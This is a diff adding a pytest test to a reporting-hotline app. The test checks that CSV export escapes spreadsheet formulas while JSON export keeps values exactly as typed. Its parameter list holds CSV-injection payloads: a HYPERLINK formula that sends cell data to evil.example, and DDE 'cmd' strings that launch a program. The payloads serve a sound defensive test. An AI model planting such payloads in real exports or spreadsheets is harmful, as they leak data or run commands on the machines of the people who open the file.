@@ -80,3 +80,28 @@ def test_retention_strips_only_old_cases(env, settings) -> None:  # type: ignore
     assert store.get(old_id).contact is None  # type: ignore[union-attr]
     assert store.get(new_id).contact == "+12135550100"  # type: ignore[union-attr]
     store.engine.dispose()
+
+
+@pytest.mark.parametrize("typed", [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Taqueria Sol")', "+1+cmd|' /C calc'!A0",
+    "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+])
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula(env, settings, typed: str) -> None:  # type: ignore[no-untyped-def]
+    from hotline.crypto import Crypto
+    from hotline.dialogue.effects import CaseKind, FileCase
+    from hotline.store.cases import CaseStore
+    from hotline.store.db import make_engine
+
+    store = CaseStore(make_engine(settings.sqlalchemy_url),
+                      Crypto(settings.secret_key, settings.encryption_keys))
+    store.file(FileCase(kind=CaseKind.REPORT, locale="es", channel="sms", sender="+12135550100",
+                        contact_method="text", employer=typed, location="Vermont & 3rd",
+                        details=(typed,), name="Ana"))
+    store.engine.dispose()
+    exported = CliRunner().invoke(main, ["cases", "export", "--format", "csv"], env=env)
+    (row,) = list(csv.DictReader(io.StringIO(exported.output)))
+    assert row["employer"] == "'" + typed and row["details"] == "'" + typed
+    assert row["location"] == "Vermont & 3rd" and row["name"] == "Ana"  # the rest as typed
+    (case,) = json.loads(CliRunner().invoke(main, ["cases", "export", "--format", "json"],
+                                            env=env).output)
+    assert case["employer"] == typed  # JSON is no spreadsheet: exactly what was typed
